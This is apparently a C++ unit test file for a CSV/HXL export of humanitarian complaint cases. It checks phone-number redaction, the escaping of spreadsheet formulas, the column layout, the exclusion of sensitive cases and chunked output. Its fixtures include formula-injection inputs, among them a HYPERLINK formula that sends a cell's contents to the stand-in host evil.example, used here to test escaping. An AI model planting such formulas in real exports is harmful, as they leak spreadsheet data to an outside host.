// The CSV/HXL export: number redaction and formula escaping table-driven, then whole exports read
// back with an RFC 4180 parser written here, column by column.
#include "messages/case_export.hpp"

#include <doctest/doctest.h>

#include <stdexcept>
#include <string>
#include <vector>

using namespace cwc;
using namespace cwc::messages;

namespace {

// RFC 4180: fields split by commas, records by CRLF; a quoted field may hold commas, CR, LF and
// doubled quotes. Throws on a malformed input so a broken writer cannot pass by accident.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::vector<std::vector<std::string>> records;
    std::vector<std::string> record;
    std::string field;
    std::size_t i = 0;
    bool at_field_start = true;
    while (i < text.size()) {
        const char c = text[i];
        if (at_field_start && c == '"') {
            ++i;
            while (true) {
                if (i >= text.size()) throw std::runtime_error("unterminated quoted field");
                if (text[i] == '"') {
                    if (i + 1 < text.size() && text[i + 1] == '"') {
                        field += '"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                field += text[i++];
            }
            at_field_start = false;
            if (i < text.size() && text[i] != ',' && text[i] != '\r') {
                throw std::runtime_error("text after a closing quote");
            }
            continue;
        }
        if (c == '"') throw std::runtime_error("quote inside an unquoted field");
        if (c == ',') {
            record.push_back(field);
            field.clear();
            at_field_start = true;
            ++i;
        } else if (c == '\r') {
            if (i + 1 >= text.size() || text[i + 1] != '\n') throw std::runtime_error("bare CR");
            record.push_back(field);
            records.push_back(record);
            record.clear();
            field.clear();
            at_field_start = true;
            i += 2;
        } else if (c == '\n') {
            throw std::runtime_error("bare LF outside quotes");
        } else {
            field += c;
            at_field_start = false;
            ++i;
        }
    }
    if (!record.empty() || !field.empty()) throw std::runtime_error("last record without CRLF");
    return records;
}

config::config export_config() {
    config::config cfg;
    cfg.default_language = "es";
    config::organisation org;
    org.id = "hias_peru";
    org.name = {{"es", "HIAS Perú"}, {"en", "HIAS Peru"}};
    cfg.organisations.push_back(org);
    return cfg;
}

case_row sample_row() {
    case_row r;
    case_record& c = r.record;
    c.reference = "Q7K-2M4";
    c.opened_at = from_unix_ms(1'764'000'000'000);  // 2025-11-24T16:00:00Z
    c.acknowledged_at = from_unix_ms(1'764'003'600'000);
    c.due_at = from_unix_ms(1'764'604'800'000);
    c.organisation = "hias_peru";
    c.region = "PE15";
    c.type = "complaint";
    c.category = "documentation";
    c.codes = {"doc_cpp_delay", "doc_fees"};
    c.status = "acknowledged";
    c.channel_id = "sms-pe";
    c.language = "es";
    c.sex = "female";
    c.age_group = "18_59";
    c.satisfaction = 4;
    c.description = "plain";
    r.contact_key = "p_39752b4a28358730";
    r.overdue = true;
    return r;
}

std::string export_of(const std::vector<case_row>& rows, bool with_description,
                      std::size_t chunk = 64 * 1024, int* chunks = nullptr) {
    const config::config cfg = export_config();
    std::string out;
    case_export_writer w{cfg, with_description,
                         [&](std::string_view part) {
                             out.append(part);
                             if (chunks != nullptr) ++*chunks;
                         },
                         chunk};
    w.write_header();
    for (const auto& r : rows) w.write_row(r);
    w.finish();
    CHECK(w.rows() == rows.size());
    return out;
}

}  // namespace

TEST_CASE("redact_numbers removes phone-like and document-like runs only") {
    struct row {
        const char* in;
        const char* out;
    };
    const std::vector<row> rows = {
        {"llamar al +51 987 654 321 por favor", "llamar al [number removed] por favor"},
        {"tel 987654321.", "tel [number removed]."},
        {"(01) 234-5678 es la oficina", "[number removed] es la oficina"},
        {"mi carnet 001234567X", "mi carnet [number removed]X"},
        {"call (987654321)", "call [number removed]"},
        {"+51-987-654-321", "[number removed]"},
        {"1234 is short", "1234 is short"},
        {"calle 5, piso 2, 3 hijos", "calle 5, piso 2, 3 hijos"},
        {"en 2024 - 3 personas", "en 2024 - 3 personas"},  // three separators: two numbers
        {"12 345", "[number removed]"},
        {"x 1.2.3.4.5 y", "x [number removed] y"},
        {"رقمي ٠٧٧٠١٢٣٤٥٦٧ شكرا", "رقمي [number removed] شكرا"},
        {"شماره ۰۹۱۲۳۴۵۶۷۸۹", "شماره [number removed]"},
        {"a + b = c", "a + b = c"},
        {"", ""},
        {"trailing 98765", "trailing [number removed]"},
    };
    for (const auto& r : rows) {
        CAPTURE(r.in);
        CHECK(redact_numbers(r.in) == r.out);
    }
}

TEST_CASE("append_csv_field escapes formulas and quotes what needs quoting") {
    struct row {
        const char* in;
        const char* out;
    };
    const std::vector<row> rows = {
        {"plain", "plain"},
        {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
        {"+51", "'+51"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tcmd", "'\tcmd"},
        {"\rcmd", "\"'\rcmd\""},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\""},
        {"mid=formula", "mid=formula"},
        {"", ""},
    };
    for (const auto& r : rows) {
        CAPTURE(r.in);
        std::string out;
        append_csv_field(out, r.in);
        CHECK(out == r.out);
    }
}

TEST_CASE("iso_utc") {
    CHECK(iso_utc(from_unix_ms(1'764'000'000'000)) == "2025-11-24T16:00:00Z");
    CHECK(iso_utc(from_unix_ms(951'782'400'999)) == "2000-02-29T00:00:00Z");
    CHECK(iso_utc(from_unix_ms(1'764'003'723'456)) == "2025-11-24T17:02:03Z");
    CHECK(iso_utc(from_unix_ms(-1'000)) == "1969-12-31T23:59:59Z");
    CHECK(iso_utc(timestamp{}) == "");
}

TEST_CASE("export: names row, HXL row and one case column by column") {
    const auto records = parse_csv(export_of({sample_row()}, true));
    REQUIRE(records.size() == 3);
    const std::vector<std::string> names = {
        "reference", "opened_at", "acknowledged_at", "due_at", "responded_at", "closed_at",
        "organisation", "organisation_name", "region", "type", "category", "codes", "status",
        "overdue", "channel", "language", "contact_key", "sex", "age_group",
        "referred_organisation", "referred_service", "satisfaction", "description"};
    CHECK(records[0] == names);
    const std::vector<std::string> hxl = {
        "#meta+id", "#date+reported", "#date+acknowledged", "#date+due", "#date+responded",
        "#date+end", "#org+code", "#org+name", "#adm1+code", "#description+type",
        "#description+category", "#description+code", "#status+name", "#status+overdue",
        "#meta+channel", "#meta+language", "#meta+contact_key", "#respondee+sex",
        "#respondee+age_group", "#org+code+referred", "#service+code+referred",
        "#indicator+satisfaction", "#description+text"};
    CHECK(records[1] == hxl);
    const std::vector<std::string> row = {
        "Q7K-2M4", "2025-11-24T16:00:00Z", "2025-11-24T17:00:00Z", "2025-12-01T16:00:00Z", "", "",
        "hias_peru", "HIAS Perú", "PE15", "complaint", "documentation", "doc_cpp_delay;doc_fees",
        "acknowledged", "yes", "sms-pe", "es", "p_39752b4a28358730", "female", "18_59", "", "",
        "4", "plain"};
    CHECK(records[2] == row);
}

TEST_CASE("export: planted formula and phone number come out escaped and redacted") {
    case_row r = sample_row();
    r.record.description = "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\") llame +51 987 654 321";
    case_row second = sample_row();
    second.record.reference = "R2D-2C3";
    second.record.description = "+51 987 654 321 es mi número";
    second.record.referred_service = "-cmd";  // any column, not only the description
    const auto records = parse_csv(export_of({r, second}, true));
    REQUIRE(records.size() == 4);
    CHECK(records[2].back() ==
          "'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\") llame [number removed]");
    CHECK(records[3].back() == "[number removed] es mi número");
    CHECK(records[3][20] == "'-cmd");
    for (const auto& rec : records) {
        for (const auto& field : rec) {
            CAPTURE(field);
            CHECK(field.find("987") == std::string::npos);
            if (!field.empty()) CHECK(std::string_view{"=+-@\t\r"}.find(field[0]) == std::string::npos);
        }
    }
}

TEST_CASE("export: quotes, commas, newlines and Arabic round-trip through a CSV parser") {
    case_row r = sample_row();
    r.record.language = "ar";
    r.record.description = "قالوا \"غدًا\", ثم\r\nلا شيء،\nأبداً";
    const auto records = parse_csv(export_of({r}, true));
    REQUIRE(records.size() == 3);
    CHECK(records[2].size() == 23);
    CHECK(records[2].back() == r.record.description);
    CHECK(records[2][15] == "ar");
}

TEST_CASE("export: shareable export leaves the description out; sensitive cases are refused") {
    case_row r = sample_row();
    r.record.description = "secret words";
    const std::string text = export_of({r}, false);
    CHECK(text.find("secret") == std::string::npos);
    const auto records = parse_csv(text);
    REQUIRE(records.size() == 3);
    for (const auto& rec : records) CHECK(rec.size() == 22);
    CHECK(records[1].back() == "#indicator+satisfaction");

    const config::config cfg = export_config();
    std::string out;
    case_export_writer w{cfg, true, [&](std::string_view part) { out.append(part); }};
    case_row sensitive = sample_row();
    sensitive.record.sensitive = true;
    CHECK_THROWS_AS(w.write_row(sensitive), std::logic_error);
    w.finish();
    CHECK(out.empty());
}

TEST_CASE("export: written to the sink in chunks, never all at once") {
    std::vector<case_row> rows(500, sample_row());
    int chunks = 0;
    const std::string text = export_of(rows, true, 4096, &chunks);
    CHECK(parse_csv(text).size() == 502);
    CHECK(chunks >= static_cast<int>(text.size() / 4096));
    CHECK(chunks <= static_cast<int>(text.size() / 4096) + 1);
}
